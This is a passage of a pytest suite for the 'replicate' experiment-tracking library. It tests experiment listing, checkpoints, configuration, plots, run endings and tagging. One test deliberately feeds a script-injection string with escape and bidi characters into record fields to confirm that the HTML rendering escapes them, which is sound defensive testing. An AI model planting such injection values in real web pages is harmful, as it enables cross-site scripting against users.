    assert isinstance(found, replicate.ExperimentList) and isinstance(found[1:], replicate.ExperimentList)
    assert [item.params["x"] for item in found[::-1]] == [3, 1, 2] and isinstance(found[0], replicate.Experiment)
    with pytest.raises(replicate.ReplicateError):
        replicate.experiments.list("x > 1")


def write_runs(root, *runs):
    """A repository of the experiments 1e, 2e, 3e..., which start a second after one another, with these fields."""
    write_repository(root, *[experiment_document(hex_id("%xe" % number), "2006-01-02T14:54:%02dZ" % (number + 4), **fields)
                             for number, fields in enumerate(runs, 1)])


@pytest.mark.parametrize("failing", [1, 3, 5])
def test_an_experiment_for_which_the_filter_fails_is_left_out_with_one_warning(repo, capsys, failing):
    write_runs(repo, *[{"params": {} if number <= failing else {"lr": number}} for number in range(1, 8)])
    assert [item.short_id() for item in replicate.experiments.list(filter=lambda item: item.params["lr"] > 6)] == ["7eeeeee"]
    message, = messages_of(capsys.readouterr().err)
    for number in range(1, 8):
        assert ("%deeeeee (KeyError: 'lr')" % number in message) is (number <= min(failing, 3))
    assert ("and 2 more" in message) is (failing == 5)
    assert "left out %d experiment%s for" % (failing, "" if failing == 1 else "s") in message


def test_empty_texts_of_the_peer_are_none_and_what_a_document_lacks_is_empty(repo):
    write_repository(repo, experiment_document(hex_id("1e"), path="", host="", user="", command="", python_version="",
                                               checkpoints=[checkpoint_document(hex_id("1c"), path="")]))
    experiment, = replicate.experiments.list()
    assert (experiment.path, experiment.host, experiment.user, experiment.command, experiment.full_command,
            experiment.python_version, experiment.checkpoints[0].path) == (None,) * 7
    assert experiment.to_json()["host"] == ""
    bare = replicate.Experiment({"id": hex_id("1e"), "created": "2006-01-02T00:00:00Z"})
    assert bare.params == {} and bare.checkpoints == [] and bare.python_packages == {} and bare.host is None
    assert repr(bare) == "<Experiment 1eeeeee 0 checkpoints>" and hex_id("1e") in bare._repr_html_()
    assert "<table>" in replicate.ExperimentList()._repr_html_() and "<table>" in replicate.CheckpointList()._repr_html_()


def test_get(repo, prefixes):
    (repo / "metadata/experiments" / (hex_id("f0") + ".json")).write_text("{")
    get = replicate.experiments.get
    assert get("ab1").id == get("ab1" + "0" * 61).id == "ab1" + "0" * 61
    with pytest.raises(replicate.DoesNotExist, match="not found"):
        get("cd12")  # a checkpoint
    with pytest.raises(replicate.ReadError, match="f00000"):
        get("f0")
    for wrong in (5, None, b"ab1", ["ab1"]):
        with pytest.raises((TypeError, replicate.ReplicateError)):
            get(wrong)


def test_slices_of_checkpoints_and_their_columns(repo):
    with replicate.init(quiet=True) as experiment:
        for number in range(6):
            metrics = {"loss": 6 - number, "only": "text"} if number == 2 else {"loss": 6 - number}
            experiment.checkpoint(metrics=metrics, step=number * 10, primary_metric=("loss", "minimize"), quiet=True)
    checkpoints = replicate.experiments.get(experiment.id).checkpoints
    assert isinstance(checkpoints[1:], replicate.CheckpointList) and isinstance(checkpoints[0], replicate.Checkpoint)
    assert checkpoints.metrics["loss"] == [6, 5, 4, 3, 2, 1] and checkpoints.step == [0, 10, 20, 30, 40, 50]
    assert checkpoints[::2].metrics["loss"] == [6, 4, 2] and checkpoints[1:3].step == [10, 20]
    assert checkpoints.metrics["only"] == [None, None, "text", None, None, None]
    assert checkpoints.metrics["absent"] == [None] * 6 and sorted(checkpoints.metrics) == ["loss", "only"]
    assert checkpoints[:3].best().step == 20 and checkpoints[:3].latest().step == 20
    assert checkpoints[6:] == [] and checkpoints[6:].best() is None and checkpoints[6:].step == []


def test_project_with_a_repository_and_a_directory(tmp_path, repo):
    fill(tmp_path, {"elsewhere/code.py": b"pass"})
    project = replicate.Project(repository="file://%s/far" % tmp_path, directory=str(tmp_path / "elsewhere"))
    experiment = project.experiments.create(path="code.py", params={"x": 1}, quiet=True)
    experiment.checkpoint(path="code.py", metrics={"y": 2}, quiet=True)
    experiment.stop()
    assert not repo.exists()
    assert [item.id for item in project.experiments.list()] == [experiment.id]
    assert stored_documents(tmp_path / "far")[0]["params"] == {"x": 1}
    project.experiments.get(experiment.id[:9]).checkpoints[0].checkout("out", quiet=True)
    assert tree("out") == {"code.py": b"pass"}
    with pytest.raises(replicate.ReplicateError):
        replicate.Project(directory=str(tmp_path / "missing"))
    for url in ("nonsense", "ftp://x/y", "file://", "s3://"):
        with pytest.raises(replicate.RepositoryConfigurationError):
            replicate.Project(repository=url)


def test_a_project_reads_its_configuration_when_it_is_first_used(tmp_path, repo, monkeypatch):
    config = tmp_path / "project/replicate.yaml"
    config.write_text("nonsense: 1\n")
    project, given = replicate.Project(), replicate.Project("file://given", ".")
    config.write_text("repository: file://far\n")
    assert project.repository.url == "file://%s/project/far" % tmp_path
    monkeypatch.chdir(tmp_path)
    config.unlink()
    assert (given.repository.url, given.directory) == ("file://%s/project/given" % tmp_path, str(tmp_path / "project"))
    late = replicate.Project(directory="project")
    with pytest.raises(replicate.ConfigNotFound):
        late.experiments.list()
    config.write_text("repository: file://near\n")
    assert late.repository.url == "file://%s/project/near" % tmp_path and late.experiments.list() == []
    monkeypatch.setenv("REPLICATE_REPOSITORY", "file://%s/env" % tmp_path)
    monkeypatch.chdir("project")
    replicate.init(quiet=True).stop()
    assert len(stored_documents(tmp_path / "env")) == 1 and not repo.exists()


def test_the_embedded_default_repository_is_announced_in_one_line(tmp_path, capsys, monkeypatch):
    directory = tmp_path / "project"
    with pytest.raises(replicate.ConfigNotFound, match="replicate.init"):
        replicate.experiments.list()
    assert list(directory.iterdir()) == []
    (directory / "train.py").write_text("pass")
    replicate.init(path=".").stop()
    line, = capsys.readouterr().err.splitlines()
    assert "file://%s/.replicate/storage" % directory in line and "no replicate.yaml" in line and "train.py" in line
    assert len(stored_documents(directory / ".replicate/storage")) == 1
    (directory / "sub").mkdir()
    monkeypatch.chdir(directory / "sub")
    replicate.init(path="train.py").stop()  # found from below, and no longer announced
    assert re.fullmatch(r"═══╡ Recording experiment \w{7} in file://\S+/storage \(saved train.py\)\n", capsys.readouterr().err)
    assert len(replicate.experiments.list()) == 2
    for item in replicate.experiments.list():
        assert list(DiskPlace(directory / ".replicate/storage").files("experiments", item.id)) == ["train.py"]


@pytest.mark.parametrize("ignored", [True, False])
def test_init_that_finds_no_file_to_save_says_so(project, repo, capsys, ignored):
    (project / "src").mkdir()
    if ignored:
        (project / ".replicateignore").write_text("*\n")
        (project / "src/train.py").write_text("pass")
    with replicate.init(path="src") as experiment:
        assert experiment.path is None
    warning, line = capsys.readouterr().err.splitlines()
    assert "'src'" in warning and "no file" in warning and "saved" not in line
    assert names_in(repo / "experiments") == [] and stored_documents(repo)[0]["path"] is None


def test_paths_are_relative_to_the_project_and_absolute_ones_inside_it_are_taken(project, repo, monkeypatch, tmp_path):
    fill(project, {"sub/model": b"weights"})
    (tmp_path / "link").symlink_to(project)
    monkeypatch.chdir(project / "sub")
    experiment = replicate.init(path=str(project / "sub"), quiet=True)
    assert experiment.path == "sub"
    for path in ("./sub/../sub/model", project / "sub/model", str(tmp_path / "link/sub/model")):
        checkpoint = experiment.checkpoint(path=path, quiet=True)
        assert checkpoint.path == "sub/model" and checkpoint.open("sub/model").read() == b"weights"
    for path in ("model", project / "sub/model", str(tmp_path / "link/sub/model")):  # as a job that resumes names it
        assert checkpoint.open(path).read() == b"weights"
    (project / "model").write_bytes(b"another")
    assert experiment.checkpoint(path="model", quiet=True).open("model").read() == b"another"
    (project / "model").unlink()
    whole = experiment.checkpoint(path=str(project), quiet=True)
    experiment.stop()
    assert [item["path"] for item in stored_documents(repo)[0]["checkpoints"]] == ["sub/model"] * 3 + ["model", "."]
    assert {type(item["path"]) for item in stored_documents(repo)[0]["checkpoints"]} == {str}
    for kind, item in (("checkpoints", whole), ("experiments", replicate.init(path=str(project), quiet=True))):
        assert item.path == "." and set(DiskPlace(repo).files(kind, item.id)) == {"replicate.yaml", "sub/model"}  # but not repo


@pytest.mark.parametrize("config", [True, False])
def test_a_script_that_hydra_moves_into_its_output(project, config):
    fill(project, {"train.py": b"1"})
    if not config:
        (project / "replicate.yaml").unlink()
    err = run_script("""
        import os, sys, replicate
        sys.modules["hydra"] = os  # as if a script used it
        os.makedirs("outputs/2026-01-31/12-00-00/.hydra")
        os.chdir("outputs/2026-01-31/12-00-00")
        open("model.pth", "w").write("1")
        with replicate.init(path=".") as experiment:
            assert experiment.checkpoint(path="model.pth").path == "outputs/2026-01-31/12-00-00/model.pth"
        """).stderr
    place = project / ("repo" if config else ".replicate/storage")
    (document,) = stored_documents(place)
    assert DiskPlace(place).files("experiments", document["id"])["train.py"] == b"1" and "does not exist" not in err


def test_a_notebook_moves_to_a_project_in_which_hydra_ran(project, monkeypatch):
    fill(project, {"inner/replicate.yaml": b"repository: file://here\n", "inner/.hydra/config.yaml": b""})
    monkeypatch.chdir("inner")
    assert replicate.Project().directory == str(project / "inner")


def test_a_working_directory_that_is_removed(project, repo):
    """As at the end of `with TemporaryDirectory()` in a script that works there."""
    done = train("""
        os.mkdir("gone")
        os.chdir("gone")
        os.rmdir("../gone")
        experiment.checkpoint(path="replicate.yaml", quiet=True)
        print(replicate.program_name().endswith("replicate.py"))
        for start in (replicate.init, lambda: replicate.Project("file://x")):
            try:
                start()
            except replicate.ConfigNotFound as error:
                print(error)
        """)
    assert re.fullmatch("True\n(The working directory was removed.*\n){2}", done.stdout)
    assert [item["path"] for item in stored_documents(repo)[0]["checkpoints"]] == ["replicate.yaml"]


def test_an_open_file_can_be_read_in_pieces_and_sought(project):
    content = os.urandom(1000) * 9000
    (project / "model").write_bytes(content)
    checkpoint = replicate.init(quiet=True).checkpoint(path="model", quiet=True)
    with checkpoint.open("model") as file:
        assert file.read(10) == content[:10]
        file.seek(-100, 2)
        assert file.read() == content[-100:] and file.readable()
        file.seek(0)
        assert zlib.crc32(file.read()) == zlib.crc32(content)


def test_files_that_are_gone(project, repo):
    (project / "model").write_text("x")
    with replicate.init(quiet=True) as experiment:
        checkpoint = experiment.checkpoint(path="model", quiet=True)
        bare = experiment.checkpoint(metrics={"x": 1}, quiet=True)
    (repo / "checkpoints" / (checkpoint.id + ".tar.gz")).unlink()
    with pytest.raises(replicate.DoesNotExist, match="gone"):
        checkpoint.open("model")
    for item, words in ((checkpoint, "gone"), (bare, "no files")):
        with pytest.raises(replicate.DoesNotExist, match=words):
            item.checkout("out", quiet=True)
    assert not os.path.exists("out") and len(replicate.experiments.list()[0].checkpoints) == 2
    (repo / "checkpoints" / (checkpoint.id + ".tar.gz")).write_bytes(b"\x1f\x8b not gzip")
    with pytest.raises(replicate.ReadError):
        checkpoint.open("model")


def test_html_escapes_hostile_text(repo):
    text = "<script>alert('x')</script>&\"\x1b[31m\u202e"
    write_runs(repo, dict(params={text: text, "list": [text], "d": {"k": text}}, host=text, user=text, command=text, checkpoints=[
        checkpoint_document(C, metrics={text: text, "loss": 0.25}, path=text, primary=("loss", "minimize"))]), {})
    experiments = replicate.experiments.list()
    for item in (experiments, experiments[0], experiments[0].checkpoints, experiments[0].checkpoints[0]):
        html = item._repr_html_()
        assert html.startswith("<table>") and "<script" not in html and "\x1b" not in html and "\u202e" not in html
        assert "&lt;script&gt;" in html and "alert('x')" not in html
    html = experiments[0]._repr_html_()
    assert hex_id("1e") in html and "0.25" in html and "(best)" in html
    assert " ago" not in html and html.count(replicate.full_time(experiments[0].created)) == 2  # a notebook is read later, too


@pytest.fixture
def pyplot(monkeypatch):
    """matplotlib without a screen."""
    monkeypatch.setenv("MPLBACKEND", "Agg")
    matplotlib = pytest.importorskip("matplotlib", reason="plots are drawn with matplotlib")
    matplotlib.use("Agg", force=True)
    from matplotlib import pyplot
    yield pyplot
    pyplot.close("all")


@pytest.fixture
def experiments(repo):
    """Three experiments: with losses, with a gap and other kinds of values, and without any."""
    def checkpoints(letter, *values):
        return [checkpoint_document(hex_id(letter + "%x" % number), step=number * 10, metrics={"loss": value, "acc": number},
                                    created="2006-01-02T15:00:%02dZ" % number, primary=("loss", "minimize"))
                for number, value in enumerate(values)]
    write_runs(repo, {"params": {"lr": 0.1, "opt": "adam"}, "checkpoints": checkpoints("c", 3.0, 1, 2.0)},
               {"params": {"lr": 1, "opt": None}, "checkpoints": checkpoints("d", "[NaN]", "text", 0.5, "[+Infinity]")},
               {"params": {"lr": 5}})
    return replicate.experiments.list()


def test_plots_of_metrics(experiments, pyplot):
    for plot in (experiments[0].plot, experiments[0].checkpoints.plot):
        pyplot.figure()
        axes = plot()
        line, = axes.get_lines()
        assert list(line.get_xdata()) == [0, 10, 20] and list(line.get_ydata()) == [3.0, 1, 2.0]
        assert (axes.get_xlabel(), axes.get_ylabel(), axes.get_yscale()) == ("step", "loss", "linear")
    line, = experiments[0].checkpoints[1:].plot("acc", logy=True, ax=pyplot.figure().gca()).get_lines()
    assert list(line.get_xdata()) == [10, 20] and list(line.get_ydata()) == [1, 2]
    assert line.axes.get_yscale() == "log" and line.axes.get_ylabel() == "acc"
    axes = experiments.plot(ax=pyplot.figure().gca())
    first, second, third = axes.get_lines()
    assert [line.get_label() for line in (first, second, third)] == ["1eeeeee", "2eeeeee", "3eeeeee"]
    assert [math.isnan(value) for value in second.get_ydata()] == [True, True, False, False]
    assert second.get_ydata()[2] == 0.5 and list(third.get_xdata()) == []
    assert [text.get_text() for text in axes.get_legend().get_texts()] == ["1eeeeee", "2eeeeee", "3eeeeee"]
    axes.figure.canvas.draw()
    assert experiments.plot("acc").get_ylabel() == "acc"
    for nothing in (experiments[2], replicate.ExperimentList()):
        with pytest.raises(replicate.ReplicateError, match="primary metric"):
            nothing.plot()


def test_plots_draw_on_the_current_axes_or_those_given(experiments, pyplot):
    figure, (left, right) = pyplot.subplots(1, 2, figsize=(9, 3))
    assert experiments[0].plot() is right and not left.lines  # the current axes are the last subplot
    assert experiments[1].plot() is right  # an overlay
    assert [line.get_label() for line in right.lines] == ["1eeeeee", "2eeeeee"]
    assert [text.get_text() for text in right.get_legend().get_texts()] == ["1eeeeee", "2eeeeee"]
    for plot in (experiments.plot, experiments[0].plot, experiments[0].checkpoints.plot, lambda ax: experiments.scatter("lr", ax=ax)):
        left.clear()
        assert plot(ax=left) is left and left.lines + list(left.collections)
        assert left.get_ylabel() == "loss" and left.get_xlabel() in ("step", "lr")
    pyplot.sca(left)
    assert experiments.scatter("lr", "acc") is left and left.get_ylabel() == "acc"
    assert pyplot.get_fignums() == [figure.number] and figure.axes == [left, right] and len(right.lines) == 2
    assert tuple(figure.get_size_inches()) == (9, 3)
    pyplot.close("all")
    assert experiments[0].plot().get_legend() is None and len(pyplot.get_fignums()) == 1


def test_scatter(experiments, pyplot):
    axes = experiments.scatter("lr", "loss", logx=True)
    points, = axes.collections
    assert [tuple(point) for point in points.get_offsets()] == [(0.1, 1.0), (1.0, 0.5)]
    assert [text.get_text() for text in axes.texts] == ["1eeeeee", "2eeeeee"]
    assert (axes.get_xlabel(), axes.get_ylabel()) == ("lr", "loss")
    assert (axes.get_xscale(), axes.get_yscale()) == ("log", "linear")
    assert experiments.scatter("lr", logy=True).get_yscale() == "log"
    axes = experiments.scatter("opt", "loss", ax=pyplot.figure().gca())
    axes.figure.canvas.draw()
    assert [label.get_text() for label in axes.get_xticklabels()] == ["adam", "null"]
    assert [point[1] for point in axes.collections[0].get_offsets()] == [1.0, 0.5]
    assert len(experiments.scatter("absent", "loss", ax=pyplot.figure().gca()).collections[0].get_offsets()) == 0
    experiments[:1].scatter("lr", ax=pyplot.figure().gca()).figure.canvas.draw()


def test_scatter_over_a_param_that_is_sometimes_a_number_and_sometimes_text(pyplot):
    axes = replicate.ExperimentList([
        make_experiment(checkpoint_document(C, metrics={"loss": number}, primary=("loss", "minimize")), params={"x": value})
        for number, value in enumerate(("auto", 3, 0.5, [1, 2], True, None, "auto"))]).scatter("x")
    axes.figure.canvas.draw()
    assert sorted(point[1] for point in axes.collections[0].get_offsets()) == list(range(7))


def test_numpy_values(repo):
    numpy = pytest.importorskip("numpy", reason="records numpy values")
    params = {"f16": numpy.float16(1.5), "bool": numpy.bool_(True), "array": numpy.arange(6).reshape(2, 3),
              "nan": numpy.float64("nan"), "inf": numpy.array([1, -numpy.inf]), "nested": {"a": [numpy.int8(1)]}}
    with replicate.init(params=params, quiet=True) as experiment:
        experiment.checkpoint(step=numpy.int32(5), metrics=params, primary_metric=(numpy.str_("f16"), "minimize"), quiet=True)
    plain = {"f16": 1.5, "bool": True, "array": [[0, 1, 2], [3, 4, 5]], "nan": "[NaN]", "inf": [1.0, "[-Infinity]"],
             "nested": {"a": [1]}}
    document, = stored_documents(repo)
    assert document["params"] == plain and document["checkpoints"][0]["metrics"] == plain
    assert document["checkpoints"][0]["step"] == 5 and document["params"]["bool"] is True
    found = replicate.experiments.list()[0]
    assert math.isnan(found.params["nan"]) and found.params["inf"] == [1.0, -math.inf] and found.best().step == 5


def test_torch_values_and_weights(project, repo):
    torch = pytest.importorskip("torch", reason="records torch tensors")
    layer = torch.nn.Linear(3, 2)
    torch.save(layer.state_dict(), "model.pth")
    values = {"scalar": torch.tensor(1.5), "grad": layer.weight.sum() * 0, "int": torch.tensor(3),
              "vector": torch.tensor([1, 2])}
    with replicate.init(params={"shape": layer.weight.shape}, quiet=True) as experiment:
        checkpoint = experiment.checkpoint(path="model.pth", step=torch.tensor(4), metrics=values, quiet=True)
        experiment.checkpoint(metrics={"meta": torch.ones(1, device="meta"), "ok": 1}, quiet=True)
    stored = stored_documents(repo)[0]
    first, second = stored["checkpoints"]
    assert stored["params"] == {"shape": [2, 3]} and first["step"] == 4 and second["metrics"] == {"ok": 1}
    assert first["metrics"] == {"scalar": 1.5, "grad": 0.0, "int": 3, "vector": [1, 2]}
    assert torch.equal(torch.load(checkpoint.open("model.pth"))["weight"], layer.weight)


def test_what_init_writes_can_be_changed_by_nobody_afterwards(repo):
    params, metrics = {"list": [1]}, {"values": [1]}
    with replicate.init(params=params, quiet=True) as experiment:
        checkpoint = experiment.checkpoint(metrics=metrics, quiet=True)
        params["list"].append(2)
        metrics["values"].append(2)
        checkpoint.metrics["values"].append(3)
        experiment.params["list"].append(3)
    assert stored_documents(repo)[0]["params"] == {"list": [1]} and checkpoint.metrics == {"values": [1]}
    assert stored_documents(repo)[0]["checkpoints"][0]["metrics"] == {"values": [1]}


def test_quiet_and_debug(project, repo, capsys):
    (project / "model").write_text("x")
    for quiet, least, most in ((True, 0, 0), (False, 2, 99)):  # quick ones are summed up
        with replicate.init(path="model", quiet=quiet) as experiment:
            for number in range(300):
                experiment.checkpoint(path=None if number else "model", metrics={"n": number}, quiet=quiet)
        assert least <= len(capsys.readouterr().err.splitlines()) <= most
    replicate.init(debug=True, quiet=True)
    assert replicate.console.verbose


# How a run ends, and what it is called

ENDS = '''
import os, signal, sys, threading, time, replicate
def begin(**more):
    experiment = replicate.init(quiet=True, **more)
    with open("model", "wb") as file:
        file.write(b"0123456789abcdef" * (1 << 18))
    for path in (None, "model", "model"):
        experiment.checkpoint(path=path, quiet=True)
    return experiment
'''
ENDINGS = {  # source: (exit code, status, error)
    "begin()": (0, "completed", None),
    "begin(); raise ValueError('first\\nhf_0123456789abcdefghij is wrong')": (1, "failed", "ValueError: *** is wrong"),
    "begin(); raise RuntimeError": (1, "failed", "RuntimeError"),
    "begin(); raise KeyboardInterrupt": (-2, "interrupted", None),
    "begin(); raise SystemExit": (0, "completed", None),
    "begin(); sys.exit()": (0, "completed", None),
    "begin(); sys.exit(0)": (0, "completed", None),
    "begin(); sys.exit(3)": (3, "failed", "exit code 3"),
    "begin(); sys.exit('no data')": (1, "failed", "SystemExit: no data"),
    "begin(); sys.exit(143)": (143, "terminated", None),
    "begin()\ntry: raise ValueError\nexcept ValueError: pass": (0, "completed", None),
    "e = begin(); del e": (0, "completed", None),
    "begin().stop()": (0, "completed", None),
    "e = begin()\ntry: sys.exit(3)\nexcept SystemExit: e.checkpoint(quiet=True)": (0, "completed", None),
    "begin(); threading.Thread(target=sys.exit, args=(3,)).start(); time.sleep(0.1)": (0, "completed", None),
    "threading.Thread(target=lambda: begin().checkpoint(quiet=True)).start()": (0, "completed", None),
    "e = begin()\ntry: raise KeyError('k')\nfinally: e.stop()": (1, "failed", "KeyError: 'k'"),
    "e = begin()\ntry: sys.exit(9)\nfinally: e.stop()": (9, "failed", "exit code 9"),
    "e = begin()\ntry: raise KeyError('k')\nexcept KeyError: e.stop()": (0, "completed", None),
    "with begin(): 1 / 0": (1, "failed", "ZeroDivisionError: division by zero"),
    "with begin(): pass\nraise ValueError": (1, "completed", None),
    "with begin() as e: assert e.is_running()\nassert not e.is_running()": (0, "completed", None),
    "begin(); os.kill(os.getpid(), signal.SIGINT); time.sleep(5)": (-2, "interrupted", None),
    "replicate.imported_packages = lambda: setattr(replicate, 'imported_packages', list) or 1 / os.kill(os.getpid(), 2)\n"
    "begin(); os.kill(os.getpid(), signal.SIGINT); time.sleep(5)": (-2, "interrupted", None),  # a second Ctrl-C while it stops
    "begin(); os.kill(os.getpid(), signal.SIGTERM); time.sleep(5)": (-15, "terminated", None),
    "signal.signal(1, signal.SIG_DFL); begin(); os.kill(os.getpid(), signal.SIGHUP); time.sleep(5)": (-1, "terminated", None),
    "real = time.time; e = begin(); time.time = lambda: real() - 9; e.stop(); e.checkpoint(quiet=True)":
        (0, "completed", None),
    "signal.signal(15, signal.SIG_IGN); e = begin(); os.kill(os.getpid(), 15); e.checkpoint(quiet=True)":
        (0, "completed", None),
    "e = begin(); e.stop(); e.checkpoint(quiet=True); raise OSError('late')": (1, "failed", "OSError: late"),
    "begin(disable_heartbeat=True); sys.exit(1)": (1, "failed", "exit code 1"),
    "sys.ps1 = '>>> '; begin(); raise ValueError": (1, "completed", None),
}


@pytest.mark.parametrize("source", ENDINGS, ids=[source.replace("\n", " ") for source in ENDINGS])
def test_how_a_run_ends(project, repo, source):
    started = datetime.datetime.now(datetime.timezone.utc)
    done = run_script(ENDS + source, check=False, env={"PYTHONWARNINGS": "error"})  # as of a file that is not closed
    code, status, error = ENDINGS[source]
    told = ["═══╡ Interrupted: the next replicate command here finishes the rest."] if "imported_packages" in source else []
    assert done.returncode == code and messages_of(done.stderr) == told and (code or done.stderr == "")
    (experiment,) = replicate.experiments.list()
    assert (experiment.outcome["status"], experiment.outcome.get("error")) == (status, error)
    assert started <= replicate.parse_time(experiment.outcome["time"]) <= datetime.datetime.now(datetime.timezone.utc)
    assert [row["status"] for row in json.loads(run("ls", "--json").stdout)] == [status]
    shown = run("show", experiment.id).stdout
    assert "Status:          %s\n" % status in shown and ("Error:" in shown) == bool(error) and "\nEnded:  " in shown
    assert leftovers(repo) == [] and len(stored_documents(repo)[0]["checkpoints"]) == 3 + source.count("checkpoint")
    for name in names_in(repo / "checkpoints"):
        assert told or (repo / "checkpoints" / name).stat().st_size < 1 << 19  # compressed before the end
        assert DiskPlace(repo).files("checkpoints", name[:64]) == {"model": (project / "model").read_bytes()}


def test_sys_exit_is_itself_again_once_nothing_is_recorded(project):
    done = run_script("""
        import sys, replicate
        before = sys.exit
        first = replicate.init(quiet=True)
        second = replicate.experiments.create(quiet=True)
        first.stop()
        during = sys.exit
        second.stop()
        print(before != during, before == sys.exit, second.outcome["status"])
        during(5)  # as a module does that was imported meanwhile and said `from sys import exit`
        """, check=False)
    assert (done.stdout, done.returncode) == ("True True completed\n", 5)


def test_another_tool_may_take_sys_exit_too(project):
    done = train("""
        ours = sys.exit
        def theirs(status=None):
            ours(status)
        sys.exit = theirs
        experiment.stop()
        assert sys.exit is theirs
        second = replicate.init(quiet=True)
        assert sys.exit is theirs
        sys.exit(3)
        """, code=3)
    assert done.stderr == ""
    assert [item.outcome.get("error") for item in replicate.experiments.list()] == [None, "exit code 3"]


def test_a_run_that_was_killed_is_lost_and_known_to_be_at_once(project, training):
    script = training(ENDS + "begin(name='one'); wait('recording')")
    script.expect("recording")
    assert statuses() == ["running"]
    script.kill()
    assert statuses() == ["lost"] and names_in(project / "repo/tmp") == [] == names_in(project / "repo/metadata/heartbeats")
    assert [run("ls", "-q", "-f", "status %s stopped" % operator).stdout != "" for operator in ("=", "!=")] == [True, False]


def statuses():
    return [row["status"] for row in json.loads(run("ls", "--json").stdout)]


def test_a_live_run_of_another_machine_keeps_its_heartbeat(project):
    """Where a shared disk has locks that only hold on one machine, nobody may tell from them."""
    write_repository(project / "repo", experiment_document(A, outcome={"status": "open", "time": replicate.timestamp()}), running=[A])
    (project / "repo/tmp").mkdir()
    (project / "repo/tmp" / (A + ".live.lock")).write_text("another-machine")
    assert statuses() == ["running"]


@pytest.mark.parametrize("outcome", [None, [], "x", {"status": "open"}, {"status": "fine", "time": "2006-01-02T15:01:05Z"},
                                     {"status": "failed", "time": 5}, {"status": ["failed"], "time": "2006-01-02T15:01:05Z"}])
def test_a_run_that_says_nothing_of_its_end_is_stopped(project, call, outcome):
    write_repository(project / "repo", experiment_document(
        A, outcome=outcome, name=outcome, tags=outcome, git=outcome, gpus=[outcome]))
    code, out, err = call("show", "1e")
    assert "Status:          stopped\n" in out and "Ended" not in out and err == ""
    assert call("ls")[0] == call("ls", "--json")[0] == 0


def test_names_tags_and_notes(place, project, call):
    experiment = replicate.init(params={"lr": 1}, name=" baseline ", tags=["new", "a b", "new"], note="first\ntry", quiet=True)
    experiment.checkpoint(metrics={"loss": 1}, quiet=True)
    experiment.stop()
    assert (experiment.name, experiment.tags, experiment.note) == ("baseline", ["a b", "new"], "first\ntry")
    (document,) = place.documents()
    assert (document["name"], document["tags"], document["note"]) == ("baseline", ["a b", "new"], "first\ntry")
    assert "Note:            first try\n" in call("show", "baseline")[1]
    assert call("tag", "baseline", "+good", "-new", "--no-color", "note=the one", "-missing")[0] == 0
    assert call("tag", document["id"][:9], "name=base 2")[0] == 0
    (changed,) = place.documents()
    assert changed == dict(document, name="base 2", tags=["a b", "good"], note="the one")
    assert re.search(r"(?s)EXPERIMENT +NAME +STARTED +STATUS +TAGS +PARAMS.* base 2 .* good\n", call("ls")[1])
    assert "Name:            base 2\nTags:            a b, good\nNote:            the one\n" in call("show", "base 2")[1]
    assert replicate.experiments.get("base 2").id == experiment.id
    with pytest.raises(replicate.DoesNotExist):
        replicate.experiments.get("base")
    assert call("tag", "base 2", "name=", "note=", "-a b", "-good")[0] == 0
    assert not {"name", "note", "tags"} & set(place.documents()[0])


def test_tagging_a_run_while_it_records(place, project, training):
    script = training("experiment = replicate.init(quiet=True)\nsave(0)\nwait('one')\nsave(1)\nexperiment.stop()\nwait('two')")
    script.expect("one")
    item = until(lambda: place.documents())[0]["id"]
    assert run("tag", item, "name=live").returncode == 0
    script.go()
    script.expect("two")
    (document,) = place.documents()
    assert document["name"] == "live" and place.steps() == [0, 1]


def test_a_name_that_two_have_is_ambiguous_and_a_checkpoint_has_no_tags(project, call):
    write_runs(project / "repo", {"name": "same", "checkpoints": [checkpoint_document(C)]}, {"name": "same"})
    before = stored_documents(project / "repo")
    for command in (["show", "same"], ["rm", "-f", "same"], ["tag", "same", "+x"], ["checkout", "same"]):
        code, out, err = call(*command)
        assert code == 1 and "'same' is ambiguous: it could be experiment 1eeeeee or experiment 2eeeeee." in err
    assert "not found: smae. Did you mean 'same'?" in call("show", "smae")[2]
    code, out, err = call("tag", C, "+x")
    assert code == 1 and "1cccccc is a checkpoint" in err and stored_documents(project / "repo") == before
    assert "is a checkpoint" not in call("tag", A, "+x")[2]


@pytest.fixture
def checkout_of_git(project):
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    for command in ("init -qb trunk", "add replicate.yaml", "-c user.email=a -c user.name=a commit -qm 1", "rev-parse HEAD"):
        done = subprocess.run(["git", *command.split()], cwd=str(project), check=True, capture_output=True, text=True)
    return done.stdout.strip()


def fake_program(directory, name, script, monkeypatch):
    """A program first on the path; nvidia-smi can only be played where there is no GPU."""
    directory.mkdir(exist_ok=True)
    (directory / name).write_text("#!/bin/sh\n" + script)
    (directory / name).chmod(0o755)
    monkeypatch.setenv("PATH", "%s%s%s" % (directory, os.pathsep, os.environ["PATH"]))


def test_git_and_gpus_are_recorded(project, call, tmp_path, monkeypatch, checkout_of_git):
    fake_program(tmp_path / "bin", "nvidia-smi", "echo 'NVIDIA H100 80GB'; echo; echo 'NVIDIA H100 80GB'", monkeypatch)
    replicate.init(quiet=True)
    (project / "replicate.yaml").write_text("repository: file://repo\n# changed\n")
    replicate.init(quiet=True).stop()
    first, second = sorted(stored_documents(project / "repo"), key=lambda document: document["created"])
    assert first["git"] == {"commit": checkout_of_git, "branch": "trunk", "dirty": False}
    assert second["git"] == dict(first["git"], dirty=True) and first["gpus"] == ["NVIDIA H100 80GB"] * 2
    assert "Git commit:      %s (trunk, with uncommitted changes)\nGPUs:            2 x NVIDIA H100 80GB\n" % (
        checkout_of_git) in call("show", second["id"])[1]
    for text, ids in {"dirty = true": [second["id"]], "commit = " + checkout_of_git[:7]: [first["id"], second["id"]],
                      "branch != trunk": [], "gpu ~ H100": [first["id"], second["id"]]}.items():
        assert call("ls", "-q", "-f", text)[1].split() == ids


@pytest.mark.parametrize("script", ["sleep 60", "echo broken; exit 1", "kill -9 $$", "echo", ""])
def test_programs_that_do_not_answer_are_left_out(project, tmp_path, monkeypatch, checkout_of_git, script):
    monkeypatch.setattr(replicate, "ANSWER_SECONDS", 0.05)
    for name in ("nvidia-smi", "git"):
        fake_program(tmp_path / "bin", name, script, monkeypatch)
    replicate.init(quiet=True).stop()
    (document,) = stored_documents(project / "repo")
    assert "git" not in document and document.get("gpus", [""]) == [""]


def test_labels_are_fields_of_filters_behind_params_and_metrics():
    labelled = row_of(name="base line", tags=["good", "1"], code="1234567", git={"commit": "f" * 40, "branch": "b", "dirty": False},
                      gpus=["A100"], job="4711", outcome={"status": "failed", "time": "2006-01-02T15:01:05Z"})
    bare = row_of()
    param = row_of(params={"name": 5, "tag": "x", "code": 7})
    for text, wanted in {
